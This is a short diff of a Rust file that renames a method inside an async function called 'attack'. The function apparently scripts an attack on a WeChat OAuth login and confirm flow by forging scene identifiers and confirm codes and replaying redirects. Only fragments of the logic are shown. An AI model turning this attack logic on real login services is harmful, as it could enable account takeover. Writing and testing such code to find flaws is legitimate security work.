@@ -19,7 +19,7 @@ async fn attack(gateway: &str, site: &str, link: &str) {
         visitor: Visitor::new(gateway),
     };
     let profile = phone
-        .departs(&format!("{gateway}/wechat/oauth/profile"))
+        .begins(&format!("{gateway}/wechat/oauth/profile"))
         .await;
     let return_to = |authorize_url: &Url| {
         let parameter = |wanted: &str| {
@@ -46,7 +46,7 @@ async fn attack(gateway: &str, site: &str, link: &str) {
         // Each time for another login that isn't.
         let scene = format!("login_{number:0>43}");
         let link = format!("{gateway}/wechat/oauth/confirm?scene={scene}");
-        let own = return_to(&phone.departs(&link).await);
+        let own = return_to(&phone.begins(&link).await);
         let code = format!("confirm{number}");
         phone.get(&with(&own, "code", Some(&code))).await;
         for (way, address) in strays.iter().enumerate() {
